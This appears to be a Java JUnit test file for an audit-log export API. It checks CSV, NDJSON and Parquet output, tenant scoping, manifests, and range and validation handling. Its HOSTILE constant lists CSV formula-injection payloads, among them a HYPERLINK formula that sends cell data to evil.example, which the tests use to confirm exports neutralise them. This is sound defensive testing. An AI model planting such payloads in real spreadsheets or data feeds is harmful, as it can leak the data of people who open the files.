package io.chirograph.query.export;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import io.chirograph.archive.Archive;
import io.chirograph.archive.configured.Archives;
import io.chirograph.event.facts.AuditRead;
import io.chirograph.query.api.AuditServer;
import io.chirograph.query.index.TestLog;
import io.chirograph.support.digest.Sha256;
import java.io.ByteArrayOutputStream;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.Map;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// Exports over real HTTP, behind the real doors, compared with the log and with the JSON lists.
class ExportApiTest {
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")";
    private static final List<String> HOSTILE = List.of(
            FORMULA, "+1+1", "-2", "@SUM(A1)", "\t=1", "\r\n=1", "＝1", "'=1", " =1", "a,\"b\"\r\nc", "\u200B=1");

    @TempDir
    private static Path data;

    private static AuditServer server;
    private static TestLog log;
    private static String ofAcme;

    @BeforeAll
    static void start() throws Exception {
        Archive archive = Archives.directory(data.resolve("archive"));
        log = new TestLog(archive, "example.com/chirograph/gw-1");
        for (String value : HOSTILE) {
            log.ok(Map.of("tenant", "hostile", "model", value, "metadata.note", value, "user", value));
        }
        for (int i = 0; i < 250; i++) {
            log.ok(Map.of("tenant", i % 5 == 0 ? "acme" : "other", "metadata.case", "c" + i % 3));
        }
        log.started(Map.of("tenant", "acme"));
        log.garbage("no event");
        log.publish();
        server = AuditServer.start(
                data, log.followed().key().encode(), "--chirograph.identity.operators.scope.tenant-claim=tenants");
        ofAcme = token(List.of("acme"));
        String all = token("*");
        Awaitility.await()
                .atMost(Duration.ofMinutes(1))
                .until(() -> new String(as(all, "logs").body(), UTF_8).contains("\"size\":" + log.events.size()));
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @AfterEach
    void forget() {
        server.recorded().takeReads();
    }

    private static String token(Object tenants) throws Exception {
        ECKey key = ECKey.parse(Files.readString(data.resolve("dev/operator-key.json")));
        SignedJWT token = new SignedJWT(
                new JWSHeader.Builder(JWSAlgorithm.ES256).keyID(key.getKeyID()).build(),
                new JWTClaimsSet.Builder()
                        .issuer("chirograph-development")
                        .audience("chirograph")
                        .subject("ann")
                        .claim("roles", List.of("auditor"))
                        .claim("tenants", tenants)
                        .expirationTime(Date.from(Instant.now().plusSeconds(3600)))
                        .build());
        token.sign(new ECDSASigner(key));
        return token.serialize();
    }

    private static HttpResponse<byte[]> as(String token, String path, String... headers) throws Exception {
        return server.raw(token, "GET", "/audit/v1/" + path, "", headers);
    }

    private static HttpResponse<byte[]> get(String path, String... headers) throws Exception {
        return as(token("*"), path, headers);
    }

    private static HttpResponse<byte[]> ok(String path, String... headers) throws Exception {
        HttpResponse<byte[]> answer = get(path, headers);
        assertThat(answer.statusCode())
                .as(path + new String(answer.body(), UTF_8))
                .isEqualTo(200);
        return answer;
    }

    private static String text(String path, String... headers) throws Exception {
        return new String(ok(path, headers).body(), UTF_8);
    }

    private static String header(HttpResponse<?> answer, String name) {
        return answer.headers().firstValue(name).orElse("");
    }

    private static JsonNode problem(HttpResponse<byte[]> answer) {
        assertThat(header(answer, "Content-Type")).isEqualTo("application/problem+json");
        return JsonMapper.shared().readTree(answer.body());
    }

    /// All items of a JSON list, over its pages.
    private static List<String> items(String path) throws Exception {
        List<String> items = new ArrayList<>();
        String next = "";
        do {
            JsonNode page = JsonMapper.shared()
                    .readTree(ok(path + (path.contains("?") ? "&" : "?") + "limit=100"
                                    + (next.isEmpty() ? "" : "&cursor=" + next))
                            .body());
            page.get("items").forEach(item -> items.add(item.toString()));
            next = page.get("next").asString("");
        } while (!next.isEmpty());
        return items;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "calls",
                "calls?order=asc&tenant=acme",
                "calls?provider!=sandbox",
                "events",
                "events?type=ai.call.completed&order=asc",
                "events?metadata.case=c1",
                "timeline?metadata.case=c2"
            })
    void jsonLinesAreTheItemsOfTheListInItsOrder(String path) throws Exception {
        String lines = text(path + (path.contains("?") ? "&" : "?") + "format=ndjson");
        List<String> found = new ArrayList<>();
        lines.lines()
                .forEach(line -> found.add(JsonMapper.shared().readTree(line).toString()));
        assertThat(found).isEqualTo(items(path));
        assertThat(lines.isEmpty() || lines.endsWith("\n")).isTrue();
    }

    @Test
    void everyEventOfTheLogIsExportedAsItWasSealed() throws Exception {
        String lines = text("events?order=asc&format=ndjson&from=2026-11-21T00:00:00Z");
        List<String> sealed = log.events.stream()
                .map(event -> new String(event.canonical(), UTF_8))
                .filter(event -> event.startsWith("{"))
                .toList();
        assertThat(lines.lines().map(line -> line.substring(line.indexOf("\"event\":") + 8, line.length() - 1)))
                .containsExactlyElementsOf(sealed);
    }

    @Test
    void noCellIsAFormulaAndEachIsFoundAgain() throws Exception {
        HttpResponse<byte[]> answer = ok("calls?tenant=hostile&order=asc", "Accept", "text/csv");
        assertThat(header(answer, "Content-Type")).isEqualTo("text/csv;header=present;charset=UTF-8");
        String csv = new String(answer.body(), UTF_8);
        List<List<Csv.Cell>> lines = Csv.read(csv);
        List<String> names = lines.getFirst().stream().map(Csv.Cell::text).toList();
        assertThat(names).containsSequence("callId", "outcome", "time", "tenant");
        assertThat(lines).hasSize(HOSTILE.size() + 1).allSatisfy(line -> {
            assertThat(line).hasSize(names.size());
            assertThat(line).allSatisfy(ExportApiTest::harmless);
        });
        for (int i = 0; i < HOSTILE.size(); i++) {
            List<Csv.Cell> line = lines.get(i + 1);
            assertThat(line.get(names.indexOf("model")).original()).isEqualTo(HOSTILE.get(i));
            assertThat(JsonMapper.shared()
                            .readTree(line.get(names.indexOf("metadata")).original())
                            .get("note")
                            .asString())
                    .isEqualTo(HOSTILE.get(i));
            assertThat(line.get(names.indexOf("inputTokens"))).isEqualTo(new Csv.Cell(false, "1"));
            assertThat(line.get(names.indexOf("region"))).isEqualTo(new Csv.Cell(false, ""));
        }
        for (List<Csv.Cell> line : Csv.read(text("events?format=csv"))) {
            assertThat(line).allSatisfy(ExportApiTest::harmless);
        }
    }

    @Test
    void figuresAreExportedAsTheyAreAnswered() throws Exception {
        String question = "summary?by=day&group=model,tenant&limit=9";
        JsonNode answer = JsonMapper.shared().readTree(ok(question).body());
        List<String> items = new ArrayList<>();
        answer.get("items").forEach(item -> items.add(item.toString()));
        assertThat(text(question, "Accept", "application/x-ndjson").lines()).containsExactlyElementsOf(items);
        List<List<Csv.Cell>> lines = Csv.read(text(question, "Accept", "text/csv"));
        List<String> names = lines.getFirst().stream().map(Csv.Cell::text).toList();
        assertThat(names)
                .startsWith("span", "actor", "tenant", "model", "provider", "key", "class", "others", "calls")
                .endsWith("latencyP99Millis", "latencyMaxMillis");
        assertThat(lines)
                .hasSize(items.size() + 1)
                .allSatisfy(line -> assertThat(line).hasSize(names.size()).allSatisfy(ExportApiTest::harmless));
        for (int i = 0; i < items.size(); i++) {
            JsonNode item = answer.at("/items/" + i);
            List<Csv.Cell> line = lines.get(i + 1);
            assertThat(line.get(0).original()).isEqualTo(item.get("span").asString());
            assertThat(line.get(3).original()).isEqualTo(item.at("/group/model").asString(""));
            assertThat(line.get(8))
                    .isEqualTo(new Csv.Cell(false, item.get("calls").asString()));
            assertThat(line.getLast())
                    .isEqualTo(new Csv.Cell(false, item.at("/latencyMillis/max").asString("")));
        }
        assertThat(lines).extracting(line -> line.get(3).original()).contains(FORMULA);
        assertThat(rows(
                        ok("summary?group=tenant&format=parquet").body(),
                        "SELECT tenant, calls, inputTokens, typeof(calls), others IS NULL, latencyCalls FROM export"))
                .contains(List.of("hostile", "11", "11", "BIGINT", "true", "11"))
                .hasSize(3);
    }

    @Test
    void figuresHaveTheHeadManifestAndCutOffOfAnyExport() throws Exception {
        String id = log.followed().id();
        byte[] early = ok("summary?format=ndjson&asOf=" + id + ":22").body();
        JsonNode then = JsonMapper.shared().readTree(early);
        assertThat(then.get("calls").asLong()).isEqualTo(11);
        assertThat(text("summary?format=ndjson&tenant=nobody")).isEmpty();
        assertThat(text("summary?format=csv&asOf=" + id + ":0").lines()).hasSize(1);
        HttpResponse<byte[]> get = ok("summary?group=tenant&format=csv");
        HttpResponse<byte[]> head = server.raw(token("*"), "HEAD", "/audit/v1/summary?group=tenant&format=csv", "");
        assertThat(head.body()).isEmpty();
        for (String name : List.of("Content-Type", "ETag", "Chirograph-As-Of", "Content-Location", "Link")) {
            assertThat(header(head, name)).as(name).isNotEmpty().isEqualTo(header(get, name));
        }
        assertThat(server.recorded().takeReads()).extracting(AuditRead::export).endsWith("csv", "csv");
        String described = header(get, "Link").replaceAll("^</audit/v1/|>.*", "");
        JsonNode manifest = JsonMapper.shared().readTree(ok(described).body());
        assertThat(manifest.get("list").asString()).isEqualTo("summary");
        assertThat(manifest.at("/query/group").asString()).isEqualTo("tenant");
        assertThat(manifest.get("rows").asLong()).isEqualTo(3);
        assertThat(manifest.get("sha256").asString()).isEqualTo(Sha256.hex(get.body()));
        HttpResponse<byte[]> rest =
                get("summary?group=tenant&format=csv", "Range", "bytes=20-", "If-Range", header(get, "ETag"));
        assertThat(rest.statusCode()).isEqualTo(206);
        assertThat(new String(get.body(), UTF_8)).endsWith(new String(rest.body(), UTF_8));
        assertThat(new String(as(ofAcme, "summary?group=tenant&format=csv").body(), UTF_8))
                .contains("acme")
                .doesNotContain("other\"", "hostile");
        assertThat(header(ok("summary", "Accept", "*/*"), "Content-Type")).isEqualTo("application/json");
    }

    private static void harmless(Csv.Cell cell) {
        if (cell.quoted()) {
            assertThat(cell.text().replaceAll("^[\\p{Z}\\p{Cf}]+", "")).doesNotMatch("(?s)[=+\\-@＝＋－＠\\p{Cc}].*");
        } else {
            assertThat(cell.text()).matches("-?[0-9]*|true|false|[0-9TZ:.-]{20,30}");
        }
    }

    @Test
    void anEntryThatIsNoEventIsExportedToo() throws Exception {
        List<List<Csv.Cell>> lines = Csv.read(text("events?order=asc&limit=1&format=csv"));
        assertThat(lines.get(1).get(1).text()).isEqualTo("malformed");
        assertThat(lines.get(1).getLast().text()).isEqualTo("bm8gZXZlbnQ=");
    }

    @Test
    void duckDbReadsParquetWithItsTypes() throws Exception {
        byte[] parquet = ok("calls?order=asc&format=parquet").body();
        assertThat(rows(parquet, "SELECT count(*), count(DISTINCT callId) FROM export"))
                .containsExactly(List.of("262", "262"));
        assertThat(rows(parquet, "SELECT model FROM export WHERE tenant = 'hostile'"))
                .extracting(List::getFirst)
                .containsExactlyElementsOf(HOSTILE);
        assertThat(rows(
                        parquet,
                        "SELECT typeof(any_value(time)), typeof(any_value(inputTokens)), typeof(any_value(stream)),"
                                + " typeof(any_value(events)) FROM export"))
                .containsExactly(List.of("TIMESTAMP WITH TIME ZONE", "BIGINT", "BOOLEAN", "VARCHAR"));
        assertThat(rows(
                        parquet,
                        "SELECT sum(inputTokens), sum(outputTokens), count(*) FILTER (outcome = 'open'), count(*) FILTER"
                                + " (inputTokens IS NULL), count(*) FILTER (NOT stream) FROM export"))
                .containsExactly(List.of("261", "522", "1", "1", "262"));
        List<List<String>> times = rows(parquet, "SELECT callId, epoch_ms(time), events FROM export");
        List<String> items = items("calls?order=asc");
        for (int i = 0; i < items.size(); i++) {
            JsonNode item = JsonMapper.shared().readTree(items.get(i));
            assertThat(times.get(i))
                    .containsExactly(
                            item.get("callId").asString(),
                            String.valueOf(
                                    Instant.parse(item.get("time").asString()).toEpochMilli()),
                            item.get("events").toString());
        }
        assertThat(rows(ok("calls?tenant=nobody&format=parquet").body(), "SELECT count(*) FROM export"))
                .containsExactly(List.of("0"));
        assertThat(rows(
                        ok("events?order=asc", "Accept", "application/vnd.apache.parquet")
                                .body(),
                        "SELECT event FROM export WHERE event IS NOT NULL"))
                .extracting(List::getFirst)
                .containsExactlyElementsOf(log.events.stream()
                        .map(event -> new String(event.canonical(), UTF_8))
                        .filter(event -> event.startsWith("{"))
                        .toList());
    }

    private static List<List<String>> rows(byte[] parquet, String sql) throws Exception {
        return ParquetWriterTest.rows(parquet, data.resolve("export.parquet"), sql);
    }

    @Test
    void whoSeesSomeTenantsExportsNoMore() throws Exception {
        String mine = new String(as(ofAcme, "calls?format=csv").body(), UTF_8);
        assertThat(Csv.read(mine))
                .hasSize(52)
                .allSatisfy(line -> assertThat(line.get(3).text()).isIn("acme", "tenant"));
        assertThat(new String(as(ofAcme, "events?format=ndjson").body(), UTF_8)).doesNotContain("other", "hostile");
        AuditRead read = server.recorded().takeReads().getFirst();
        assertThat(read.scope()).containsEntry("tenants", List.of("acme"));
        JsonNode manifest = JsonMapper.shared()
                .readTree(as(ofAcme, "exports/calls/manifest?format=csv").body());
        assertThat(manifest.at("/scope/tenants/0").asString()).isEqualTo("acme");
        assertThat(manifest.get("sha256").asString()).isEqualTo(Sha256.hex(mine.getBytes(UTF_8)));
    }

    @Test
    void theReadIsRecordedWithItsCutOffBeforeTheFirstByte() throws Exception {
        HttpResponse<byte[]> answer = ok("calls?tenant=acme", "Accept", "application/x-ndjson");
        assertThat(server.recorded().takeReads()).singleElement().satisfies(read -> {
            assertThat(read.export()).isEqualTo("ndjson");
            assertThat(read.status()).isEqualTo(200);
            assertThat(read.results()).isZero();
            assertThat(read.query()).containsEntry("tenant", "acme");
            assertThat(read.sizes()).containsEntry(log.followed().id(), (long) log.events.size());
            assertThat(header(answer, "Chirograph-As-Of"))
                    .isEqualTo(log.followed().id() + ":" + log.events.size());
        });
        server.recorded().unavailable = true;
        try {
            HttpResponse<byte[]> refused = get("calls?format=csv");
            assertThat(refused.statusCode()).isEqualTo(503);
            assertThat(problem(refused).get("code").asString()).isEqualTo("recording-unavailable");
            assertThat(get("exports/calls/manifest?format=csv").statusCode()).isEqualTo(503);
        } finally {
            server.recorded().unavailable = false;
        }
    }

    @Test
    void aManifestSaysWhatTheExportIs() throws Exception {
        byte[] export = ok("calls?tenant=acme&limit=20&format=csv").body();
        server.recorded().takeReads();
        JsonNode manifest = JsonMapper.shared()
                .readTree(ok("exports/calls/manifest?tenant=acme&limit=20&format=csv")
                        .body());
        assertThat(manifest.get("rows").asLong()).isEqualTo(20);
        assertThat(manifest.get("bytes").asLong()).isEqualTo(export.length);
        assertThat(manifest.get("sha256").asString()).isEqualTo(Sha256.hex(export));
        assertThat(manifest.at("/query/tenant").asString()).isEqualTo("acme");
        assertThat(manifest.at("/asOf/0/size").asLong()).isEqualTo(log.events.size());
        assertThat(manifest.at("/asOf/0/checkpoint").asString())
                .startsWith("example.com/chirograph/gw-1\n" + log.events.size() + "\n");
        assertThat(server.recorded().takeReads()).singleElement().satisfies(read -> {
            assertThat(read.results()).isEqualTo(20);
            assertThat(read.export()).isNull();
            assertThat(read.query()).containsEntry("format", "csv").containsEntry("limit", "20");
        });
    }

    @Test
    void theSameCutOffGivesTheSameBytesAndNothingBeyondIt() throws Exception {
        String id = log.followed().id();
        String early = text("events?order=asc&format=ndjson&asOf=" + id + ":40");
        assertThat(early.lines()).hasSize(40);
        assertThat(early).isEqualTo(text("events?order=asc&format=ndjson&asOf=" + id + ":40"));
        assertThat(text("calls?format=csv&outcome=open&order=asc&asOf=" + id + ":1")
                        .lines())
                .as("a call that had no end then")
                .hasSize(2);
        assertThat(text("calls?format=ndjson&asOf=" + id + ":0")).isEmpty();
        HttpResponse<byte[]> answer = ok("calls?format=csv");
        assertThat(ok(header(answer, "Content-Location").substring("/audit/v1/".length()))
                        .body())
                .isEqualTo(answer.body());
        assertThat(header(answer, "Link"))
                .isEqualTo("<" + header(answer, "Content-Location").replace("/calls?", "/exports/calls/manifest?")
                        + ">; rel=\"describedby\"");
        assertThat(header(answer, "Content-Disposition"))
                .matches("attachment; filename=\"chirograph-calls-[0-9]{8}T[0-9]{6}Z\\.csv\"");
    }

    @Test
    void aBrokenDownloadGoesOnWhereItEnded() throws Exception {
        String path = "events?format=ndjson&type=ai.call.started";
        HttpResponse<byte[]> whole = ok(path);
        String tag = header(whole, "ETag");
        String size = header(whole, "Chirograph-As-Of");
        String pinned = path + "&asOf=" + size;
        int length = whole.body().length;
        for (int from : new int[] {0, 1, 12_345, length - 1}) {
            for (String asked : List.of(path, pinned)) {
                HttpResponse<byte[]> rest = get(asked, "Range", "bytes=" + from + "-", "If-Range", tag);
                assertThat(rest.statusCode()).isEqualTo(206);
                assertThat(header(rest, "Content-Range"))
                        .isEqualTo("bytes " + from + "-" + (length - 1) + "/" + length);
                assertThat(header(rest, "ETag")).isEqualTo(tag);
                ByteArrayOutputStream both = new ByteArrayOutputStream();
                both.write(whole.body(), 0, from);
                both.writeBytes(rest.body());
                assertThat(both.toByteArray()).isEqualTo(whole.body());
            }
        }
        assertThat(get(pinned, "Range", "bytes=7-").statusCode()).isEqualTo(206);
        assertThat(get(path, "Range", "bytes=7-").statusCode())
                .as("of which export is not said")
                .isEqualTo(200);
        for (String range : List.of("bytes=-5", "bytes=0-5", "bytes=1-,5-", "rows=1-", "bytes=01-", "bytes=x-")) {
            assertThat(get(pinned, "Range", range).statusCode()).as(range).isEqualTo(200);
        }
        for (String other : List.of(
                "\"x\"",
                "W/" + tag,
                tag.replace('.', ','),
                "\"" + "0".repeat(32) + ".\"",
                tag.substring(0, 35) + "\"",
                "Sat, 21 Nov 2026 10:00:00 GMT")) {
            assertThat(get(pinned, "Range", "bytes=7-", "If-Range", other).statusCode())
                    .as(other)
                    .isEqualTo(200);
        }
        assertThat(get("events?format=csv&type=ai.call.started", "Range", "bytes=7-", "If-Range", tag)
                        .statusCode())
                .as("another export's tag")
                .isEqualTo(200);
        HttpResponse<byte[]> beyond = get(pinned, "Range", "bytes=" + length + "-");
        assertThat(beyond.statusCode()).isEqualTo(416);
        assertThat(header(beyond, "Content-Range")).isEqualTo("bytes */" + length);
        assertThat(problem(beyond).get("code").asString()).isEqualTo("range-refused");
    }

    @Test
    void headSaysWhatGetWould() throws Exception {
        HttpResponse<byte[]> head = server.raw(token("*"), "HEAD", "/audit/v1/calls?format=parquet", "");
        HttpResponse<byte[]> get = ok("calls?format=parquet");
        assertThat(head.statusCode()).isEqualTo(200);
        assertThat(head.body()).isEmpty();
        for (String name : List.of("Content-Type", "ETag", "Chirograph-As-Of", "Content-Location", "Accept-Ranges")) {
            assertThat(header(head, name)).as(name).isNotEmpty().isEqualTo(header(get, name));
        }
        assertThat(server.recorded().takeReads()).extracting(AuditRead::export).containsExactly("parquet", "parquet");
    }

    @ParameterizedTest
    @CsvSource({
        "calls?format=xml, bad-value, format",
        "calls?format=, bad-value, format",
        "calls?format=CSV, bad-value, format",
        "calls?format=json, bad-value, format",
        "calls?format=csv&format=csv, duplicate-parameter, format",
        "calls?format=csv&colour=red, unknown-parameter, colour",
        "calls?format=csv&cursor=abc, unknown-parameter, cursor",
        "calls?format=csv&limit=0, bad-value, limit",
        "calls?format=csv&limit=-1, bad-value, limit",
        "calls?format=csv&limit=9999999999999, bad-value, limit",
        "calls?format=csv&limit=1&limit=2, duplicate-parameter, limit",
        "calls?format=csv&asOf=x, bad-value, asOf",
        "calls?format=csv&asOf=, bad-value, asOf",
        "calls?format=csv&asOf=LOG:-1, bad-value, asOf",
        "calls?format=csv&asOf=LOG:01, bad-value, asOf",
        "calls?format=csv&asOf=LOG:99999999999999999999, bad-value, asOf",
        "calls?format=csv&asOf=other-00000000:1, bad-value, asOf",
        "calls?format=csv&asOf=LOG:1&asOf=LOG:1, duplicate-parameter, asOf",
        "calls?format=csv&asOf=LOG:1%2CLOG:2, bad-value, asOf",
        "calls?format=csv&asOf=LOG:1%2C, bad-value, asOf",
        "calls?format=csv&outcome=fine, bad-value, outcome",
        "timeline?format=csv, bad-value, metadata.<key>",
        "exports/calls/manifest?tenant=a, bad-value, format",
        "exports/calls/manifest?format=pdf, bad-value, format",
        "summary?format=xml, bad-value, format",
        "summary?format=csv&order=asc, unknown-parameter, order",
        "summary?format=csv&by=week, bad-value, by",
        "summary?format=csv&limit=1001, bad-value, limit",
        "exports/summary/manifest?format=csv&group=colour, bad-value, group"
    })
    void aBadQuestionIsRefusedByName(String path, String code, String field) throws Exception {
        HttpResponse<byte[]> answer = get(path.replace("LOG", log.followed().id()));
        assertThat(answer.statusCode()).as(path).isEqualTo(400);
        assertThat(problem(answer).get("code").asString()).isEqualTo(code);
        assertThat(problem(answer).get("field").asString()).isEqualTo(field);
    }

    @Test
    void whatIsNotThereIsSaidToBeSo() throws Exception {
        assertThat(get("exports/keys/manifest?format=csv").statusCode()).isEqualTo(404);
        assertThat(get("exports/calls").statusCode()).isEqualTo(404);
        HttpResponse<byte[]> early =
                get("calls?format=csv&asOf=" + log.followed().id() + ":" + (log.events.size() + 1));
        assertThat(early.statusCode()).isEqualTo(503);
        assertThat(problem(early).get("code").asString()).isEqualTo("index-rebuilding");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/json",
                "*/*",
                "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                "application/json, text/csv;q=0.5"
            })
    void whoTakesJsonGetsTheList(String accept) throws Exception {
        HttpResponse<byte[]> answer = ok("calls?limit=1", "Accept", accept);
        assertThat(header(answer, "Content-Type")).isEqualTo("application/json");
        assertThat(header(ok("calls?limit=1&format=csv", "Accept", accept), "Content-Type"))
                .startsWith("text/csv");
    }

    @Test
    void fewExportsAreMadeAtOnce() throws Exception {
        Exports exports = server.part(Exports.class);
        int places = exports.places().drainPermits();
        try {
            for (String path : List.of("calls?format=csv", "exports/calls/manifest?format=csv")) {
                HttpResponse<byte[]> answer = get(path);
                assertThat(answer.statusCode()).isEqualTo(503);
                assertThat(problem(answer).get("code").asString()).isEqualTo("overloaded");
                assertThat(header(answer, "Retry-After")).isNotEmpty();
            }
            assertThat(get("calls").statusCode()).isEqualTo(200);
        } finally {
            exports.places().release(places);
        }
        assertThat(places).isEqualTo(4);
        ok("calls?format=csv");
    }
}
